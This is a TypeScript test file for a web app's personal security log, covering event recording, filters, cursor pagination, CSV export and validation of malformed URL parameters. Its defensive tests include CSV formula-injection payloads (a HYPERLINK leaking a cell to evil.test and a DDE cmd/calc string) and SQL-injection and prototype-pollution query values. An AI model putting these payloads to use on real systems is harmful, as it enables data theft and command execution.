// The personal security log (T-P3, /settings/activity): every security event appears right
// after its action, with the address and device it came from; the filters and the keyset
// pagination return exactly the matching rows, once each, even when rows share a timestamp;
// the CSV export is the filtered view with formula-looking fields neutralised; malformed
// filter values from the URL are ignored, never an error.
import { describe, expect, test } from "vitest";
import { exportUserData } from "@/lib/account/export-data";
import { changePassword } from "@/lib/account/change-password";
import { AUDIT_ACTIONS, type AuditAction } from "@/lib/audit/actions";
import { EVENT_GROUPS, EVENT_LABELS } from "@/lib/audit/describe-event";
import { SECURITY_LOG_PAGE_SIZE, listSecurityEvents, securityLogCsv, securityLogFilterSchema, type SecurityLogFilter } from "@/lib/audit/queries";
import { authenticateWithPassword } from "@/lib/auth/authenticate-with-password";
import { endSession } from "@/lib/auth/sessions";
import { stepUp } from "@/lib/auth/step-up";
import { db } from "@/lib/db/client";
import type { RequestContext } from "@/lib/http/request-context";
import { leaveOrganization } from "@/lib/organizations/memberships";
import { revokeSession } from "@/lib/sessions/sessions";
import { confirmTotpSetup, startTotpSetup } from "@/lib/totp/manage-totp";
import { activeSession, createTestUser, markEmailVerified, signIn, testContext, totpCodeAt, uniqueEmail } from "../../fixtures/builders";

type Entry = Awaited<ReturnType<typeof listSecurityEvents>>["entries"][number];

/** Every entry of the person's log for a filter, page by page through the cursor. */
async function walk(userId: string, filter: SecurityLogFilter = {}, pageSize = SECURITY_LOG_PAGE_SIZE) {
  const pages: Entry[][] = [];
  let cursor: string | undefined;
  do {
    const { entries, nextCursor } = await listSecurityEvents(userId, { ...filter, cursor }, pageSize);
    pages.push(entries);
    cursor = nextCursor ?? undefined;
    if (pages.length > 100) throw new Error("the cursor never ends");
  } while (cursor);
  return { pages, entries: pages.flat() };
}

/** A user row with no events at all, so a test controls every row of its log. */
async function userWithEmptyLog() {
  const user = await db.user.create({ data: { email: uniqueEmail("log"), firstName: "Log", lastName: "Reader" }, select: { id: true } });
  return user.id;
}

async function insertEvent(userId: string, action: string, createdAt: Date, extra: { ipAddress?: string; userAgent?: string } = {}) {
  const row = await db.auditEvent.create({
    data: { userId, action, createdAt, ipAddress: extra.ipAddress ?? "192.0.2.10", userAgent: extra.userAgent ?? null },
    select: { id: true },
  });
  return row.id;
}

async function csvOf(userId: string, filter: SecurityLogFilter): Promise<string> {
  let text = "";
  for await (const chunk of securityLogCsv(userId, filter)) text += chunk;
  return text;
}

/** RFC 4180: quoted fields, "" for a quote, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      record.push(field);
      field = "";
    } else if (char === "\r" && text[index + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      index += 1;
    } else field += char;
  }
  if (field !== "" || record.length > 0) throw new Error(`the CSV does not end with CRLF: ${JSON.stringify(text.slice(-40))}`);
  return records;
}

const CSV_HEADER = ["Time (UTC)", "Event", "Description", "IP address", "Device"];

describe("every security event produced so far appears after its action", () => {
  test("sign-up, sign-in ok and failed, sign-out, step-up, password change, session revoke, data export, leaving an organization, 2FA on", async () => {
    const user = await createTestUser();
    // An authenticator app needs a verified address (the verification's own entry is not under test here).
    await markEmailVerified(user.userId);
    const seen = new Set<string>();
    /** Runs the action, then returns the log entries it added (newest first). */
    async function after(action: () => Promise<unknown>): Promise<Entry[]> {
      await action();
      const { entries } = await walk(user.userId);
      const added = entries.filter((entry) => !seen.has(entry.id));
      for (const entry of entries) seen.add(entry.id);
      return added;
    }
    const expectOne = (added: Entry[], action: AuditAction, context: RequestContext) => {
      expect(added.map((entry) => entry.action)).toEqual([action]);
      expect(added[0]).toMatchObject({ label: EVENT_LABELS[action], ipAddress: context.ipAddress, device: "Unknown browser on Linux" });
      expect(Math.abs(added[0]!.createdAt.getTime() - Date.now())).toBeLessThan(60_000);
    };

    // createTestUser signs up with its own context: the entry is there, from a documentation address.
    const [signedUp, ...rest] = await after(async () => {});
    expect(rest).toEqual([]);
    expect(signedUp).toMatchObject({ action: "user.signed_up", label: "Account created" });
    expect(signedUp!.ipAddress).toMatch(/^2001:db8:/);

    const signInContext = testContext();
    let token = "";
    const signedIn = await after(async () => (token = await signIn(user.email, user.password, signInContext)));
    expectOne(signedIn, "user.signed_in", signInContext);
    const session = await activeSession(token);
    // Sign-in entries name the session they opened ("This wasn't me" uses it).
    expect(signedIn[0]!.sessionId).toBe(session.sessionId);

    const failedContext = testContext();
    expectOne(await after(() => authenticateWithPassword({ email: user.email, password: "Wrong-Horse-1" }, failedContext)), "user.sign_in_failed", failedContext);

    const laptopContext = testContext();
    const laptopToken = await signIn(user.email, user.password, laptopContext);
    const laptop = await activeSession(laptopToken);
    const signOutContext = testContext();
    const signedOut = await after(() => endSession(laptop.sessionId, signOutContext));
    expect(signedOut.map((entry) => entry.action)).toEqual(["user.signed_out", "user.signed_in"]);
    expect(signedOut[0]!.ipAddress).toBe(signOutContext.ipAddress);

    const stepUpFailContext = testContext();
    const failedStepUp = await after(() => stepUp(session, { method: "password", password: "Wrong-Horse-1" }, stepUpFailContext).catch(() => undefined));
    expectOne(failedStepUp, "session.step_up_failed", stepUpFailContext);
    const stepUpContext = testContext();
    expectOne(await after(() => stepUp(session, { method: "password", password: user.password }, stepUpContext)), "session.stepped_up", stepUpContext);

    const passwordContext = testContext();
    const newPassword = "Quiet-Lantern-Orbit-58";
    expectOne(
      await after(() => changePassword(session, { currentPassword: user.password, newPassword, signOutOtherSessions: false }, passwordContext)),
      "user.password_changed",
      passwordContext,
    );

    const phoneToken = await signIn(user.email, newPassword, testContext());
    const phone = await activeSession(phoneToken);
    const revokeContext = testContext();
    const revoked = await after(async () => revokeSession(await activeSession(token), phone.sessionId, revokeContext));
    expect(revoked.map((entry) => entry.action)).toEqual(["session.revoked", "user.signed_in"]);
    expect(revoked[0]!.ipAddress).toBe(revokeContext.ipAddress);

    const exportContext = testContext();
    expectOne(await after(async () => exportUserData(await activeSession(token), exportContext)), "user.data_exported", exportContext);

    const other = await createTestUser();
    await db.membership.create({ data: { orgId: other.orgId, userId: user.userId, role: "member" } });
    const leaveContext = testContext();
    expectOne(await after(async () => leaveOrganization(await activeSession(token), other.orgId, leaveContext)), "membership.left", leaveContext);

    const totpContext = testContext();
    const enabled = await after(async () => {
      const elevated = await activeSession(token);
      const { secret } = await startTotpSetup(elevated);
      await confirmTotpSetup(elevated, await totpCodeAt(secret), totpContext);
    });
    expectOne(enabled, "two_factor.enabled", totpContext);

    // Each event is in the log exactly as many times as it happened, and every label is words.
    const { entries } = await walk(user.userId);
    const counts = Object.fromEntries(AUDIT_ACTIONS.map((action) => [action, entries.filter((entry) => entry.action === action).length]));
    expect(counts).toMatchObject({
      "user.signed_up": 1,
      "user.signed_in": 3,
      "user.sign_in_failed": 1,
      "user.signed_out": 1,
      "session.step_up_failed": 1,
      "session.stepped_up": 1,
      "user.password_changed": 1,
      "session.revoked": 1,
      "user.data_exported": 1,
      "membership.left": 1,
      "two_factor.enabled": 1,
    });
    expect(entries).toHaveLength(13);
    expect(entries.every((entry) => entry.label !== entry.action)).toBe(true);
    // Nobody else's log gained anything from this person's actions.
    expect((await walk(other.userId)).entries.map((entry) => entry.action)).toEqual(["user.signed_up"]);
  });
});

describe("filters", () => {
  async function logWithDays() {
    const userId = await userWithEmptyLog();
    const at = (iso: string) => new Date(iso);
    const ids = {
      beforeDay: await insertEvent(userId, "user.signed_in", at("2024-03-01T23:59:59.999Z")),
      dayStart: await insertEvent(userId, "user.sign_in_failed", at("2024-03-02T00:00:00.000Z")),
      dayMiddle: await insertEvent(userId, "user.password_changed", at("2024-03-02T12:00:00.000Z")),
      dayEnd: await insertEvent(userId, "session.revoked", at("2024-03-02T23:59:59.999Z")),
      nextDay: await insertEvent(userId, "user.signed_out", at("2024-03-03T00:00:00.000Z")),
      later2fa: await insertEvent(userId, "two_factor.enabled", at("2024-03-05T08:00:00.000Z")),
      laterSignIn: await insertEvent(userId, "user.signed_in", at("2024-03-05T09:00:00.000Z")),
    };
    // Someone else's events on the same days never show.
    const stranger = await userWithEmptyLog();
    await insertEvent(stranger, "user.signed_in", at("2024-03-02T10:00:00.000Z"));
    await insertEvent(stranger, "session.revoked", at("2024-03-02T11:00:00.000Z"));
    return { userId, ids };
  }

  const idsOf = async (userId: string, filter: SecurityLogFilter) => (await walk(userId, filter)).entries.map((entry) => entry.id);

  test("by type: exactly the events of that group, newest first", async () => {
    const { userId, ids } = await logWithDays();
    expect(await idsOf(userId, { type: "sign-in" })).toEqual([ids.laterSignIn, ids.nextDay, ids.dayStart, ids.beforeDay]);
    expect(await idsOf(userId, { type: "sessions" })).toEqual([ids.dayEnd]);
    expect(await idsOf(userId, { type: "password" })).toEqual([ids.dayMiddle]);
    expect(await idsOf(userId, { type: "two-factor" })).toEqual([ids.later2fa]);
    expect(await idsOf(userId, { type: "email" })).toEqual([]);
    expect(await idsOf(userId, {})).toHaveLength(7);
    for (const [type, group] of Object.entries(EVENT_GROUPS)) {
      const { entries } = await walk(userId, { type: type as keyof typeof EVENT_GROUPS });
      expect(entries.every((entry) => (group.actions as readonly string[]).includes(entry.action))).toBe(true);
    }
  });

  test("by date range: whole UTC days, both ends included", async () => {
    const { userId, ids } = await logWithDays();
    expect(await idsOf(userId, { from: "2024-03-02", to: "2024-03-02" })).toEqual([ids.dayEnd, ids.dayMiddle, ids.dayStart]);
    expect(await idsOf(userId, { from: "2024-03-02" })).toEqual([ids.laterSignIn, ids.later2fa, ids.nextDay, ids.dayEnd, ids.dayMiddle, ids.dayStart]);
    expect(await idsOf(userId, { to: "2024-03-02" })).toEqual([ids.dayEnd, ids.dayMiddle, ids.dayStart, ids.beforeDay]);
    expect(await idsOf(userId, { from: "2024-03-03", to: "2024-03-04" })).toEqual([ids.nextDay]);
    expect(await idsOf(userId, { from: "2024-03-04", to: "2024-03-02" })).toEqual([]);
  });

  test("type and dates together", async () => {
    const { userId, ids } = await logWithDays();
    expect(await idsOf(userId, { type: "sign-in", from: "2024-03-02", to: "2024-03-03" })).toEqual([ids.nextDay, ids.dayStart]);
  });

  test("the CSV is a header plus exactly the filtered rows, in the same order", async () => {
    const { userId } = await logWithDays();
    for (const filter of [{}, { type: "sign-in" as const }, { from: "2024-03-02", to: "2024-03-02" }, { type: "sign-in" as const, from: "2024-03-02" }]) {
      const { entries } = await walk(userId, filter);
      const [header, ...rows] = parseCsv(await csvOf(userId, filter));
      expect(header).toEqual(CSV_HEADER);
      expect(rows).toEqual(entries.map((entry) => [entry.createdAt.toISOString(), entry.action, entry.label, entry.ipAddress ?? "", entry.device]));
    }
    // The export is the whole filtered view, whatever cursor came with it.
    const [, ...all] = parseCsv(await csvOf(userId, {}));
    expect(all).toHaveLength(7);
  });

  test("the CSV neutralises fields a spreadsheet would run as a formula", async () => {
    const userId = await userWithEmptyLog();
    const hostile = ['=HYPERLINK("https://evil.test/?leak="&A1,"Click")', "+41 1 234", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
    const start = Date.UTC(2024, 5, 1);
    for (const [index, ipAddress] of hostile.entries()) await insertEvent(userId, "user.signed_in", new Date(start + index * 1000), { ipAddress });
    // An unknown action is shown as it is stored: that field is neutralised too.
    await insertEvent(userId, "=cmd|' /C calc'!A0", new Date(start + 10_000), { ipAddress: "192.0.2.1" });

    const [header, ...rows] = parseCsv(await csvOf(userId, {}));
    expect(header).toEqual(CSV_HEADER);
    expect(rows).toHaveLength(hostile.length + 1);
    for (const field of rows.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    const ipColumn = rows
      .slice(1)
      .map((row) => row[3])
      .reverse();
    expect(ipColumn).toEqual(hostile.map((value) => `'${value}`));
    expect(rows[0]!.slice(1, 3)).toEqual(["'=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"]);
  });
});

describe("cursor pagination", () => {
  test("60 events, 25 a page, three rows per timestamp: every row once, no gaps, no duplicates", async () => {
    const userId = await userWithEmptyLog();
    const base = Date.UTC(2025, 0, 15, 12);
    const data = Array.from({ length: 60 }, (_, index) => ({
      userId,
      action: index % 2 === 0 ? "user.signed_in" : "session.revoked",
      // 20 timestamps, each shared by three rows: page boundaries fall inside a group.
      createdAt: new Date(base + Math.floor(index / 3) * 60_000),
      ipAddress: "192.0.2.20",
    }));
    await db.auditEvent.createMany({ data });
    const all = (await db.auditEvent.findMany({ where: { userId }, select: { id: true } })).map((row) => row.id).sort();

    const { pages, entries } = await walk(userId);
    expect(pages.map((page) => page.length)).toEqual([25, 25, 10]);
    const ids = entries.map((entry) => entry.id);
    expect(new Set(ids).size).toBe(60);
    expect([...ids].sort()).toEqual(all);
    for (let index = 1; index < entries.length; index += 1) {
      expect(entries[index]!.createdAt.getTime()).toBeLessThanOrEqual(entries[index - 1]!.createdAt.getTime());
    }

    // The cursor keeps the filter: 30 of each kind, again once each.
    for (const type of ["sign-in", "sessions"] as const) {
      const filtered = await walk(userId, { type }, 7);
      expect(filtered.pages.map((page) => page.length)).toEqual([7, 7, 7, 7, 2]);
      expect(new Set(filtered.entries.map((entry) => entry.id)).size).toBe(30);
      expect(new Set(filtered.entries.map((entry) => entry.action))).toEqual(new Set([type === "sign-in" ? "user.signed_in" : "session.revoked"]));
    }
  });

  test("60 events with one identical timestamp still page through once each", async () => {
    const userId = await userWithEmptyLog();
    const createdAt = new Date(Date.UTC(2025, 1, 1, 8, 30, 0, 123));
    await db.auditEvent.createMany({ data: Array.from({ length: 60 }, () => ({ userId, action: "user.signed_in", createdAt })) });

    const { pages, entries } = await walk(userId);
    expect(pages.map((page) => page.length)).toEqual([25, 25, 10]);
    expect(new Set(entries.map((entry) => entry.id)).size).toBe(60);
    const [, ...rows] = parseCsv(await csvOf(userId, {}));
    expect(rows.map((row) => row[0])).toEqual(Array.from({ length: 60 }, () => createdAt.toISOString()));
  });

  test("the last page has no cursor; an exact multiple of the page size ends without an empty page", async () => {
    const userId = await userWithEmptyLog();
    await db.auditEvent.createMany({ data: Array.from({ length: 50 }, (_, index) => ({ userId, action: "user.signed_in", createdAt: new Date(Date.UTC(2025, 2, 1) + index) })) });
    const { pages } = await walk(userId);
    expect(pages.map((page) => page.length)).toEqual([25, 25]);
  });
});

describe("hostile filter values", () => {
  const HOSTILE_QUERIES = [
    "type=foo&from=2024-13-99&to=2024-00-00&cursor=garbage",
    "type=__proto__&from=yesterday&to=2024-1-1",
    "type=constructor&from=2024-03-02T00:00:00Z&to=2024-03-02%27%20OR%201=1",
    `cursor=${"A".repeat(5000)}`,
    `cursor=${Buffer.from("not-a-date|someid").toString("base64url")}`,
    `cursor=${Buffer.from("2024-01-01T00:00:00.000Z").toString("base64url")}`,
    "cursor=%00%01%02|||",
    // Times Prisma or PostgreSQL cannot take: year 10000, year 0, a negative year.
    `cursor=${Buffer.from("+010000-01-01T00:00:00.000Z|someid").toString("base64url")}`,
    `cursor=${Buffer.from("0000-01-01T00:00:00.000Z|someid").toString("base64url")}`,
    `cursor=${Buffer.from("-000001-01-01T00:00:00.000Z|someid").toString("base64url")}`,
    "from=&to=&type=&cursor=",
  ];

  test("malformed values are dropped by the schema: the full log comes back, no error", async () => {
    const userId = await userWithEmptyLog();
    await db.auditEvent.createMany({
      data: Array.from({ length: 30 }, (_, index) => ({ userId, action: "user.signed_in", createdAt: new Date(Date.UTC(2025, 3, 1) + index * 1000) })),
    });
    const everything = await listSecurityEvents(userId, {});
    expect(everything.entries).toHaveLength(25);

    for (const query of HOSTILE_QUERIES) {
      const filter = securityLogFilterSchema.parse(Object.fromEntries(new URLSearchParams(query)));
      expect(filter.type, query).toBeUndefined();
      expect(filter.from, query).toBeUndefined();
      expect(filter.to, query).toBeUndefined();
      const page = await listSecurityEvents(userId, filter);
      expect(
        page.entries.map((entry) => entry.id),
        query,
      ).toEqual(everything.entries.map((entry) => entry.id));
      const [, ...rows] = parseCsv(await csvOf(userId, { ...filter, cursor: undefined }));
      expect(rows, query).toHaveLength(30);
    }
  });

  test("well-formed but extreme dates answer, never throw", async () => {
    const userId = await userWithEmptyLog();
    const id = await insertEvent(userId, "user.signed_in", new Date(Date.UTC(2025, 3, 1)));
    for (const query of ["from=0000-01-01&to=9999-12-31", "from=2024-02-31&to=2099-02-30", "from=1970-01-01", "to=9999-12-31"]) {
      const filter = securityLogFilterSchema.parse(Object.fromEntries(new URLSearchParams(query)));
      const { entries } = await listSecurityEvents(userId, filter);
      expect(
        entries.map((entry) => entry.id),
        query,
      ).toEqual([id]);
      const [, ...rows] = parseCsv(await csvOf(userId, filter));
      expect(rows, query).toHaveLength(1);
    }
  });
});
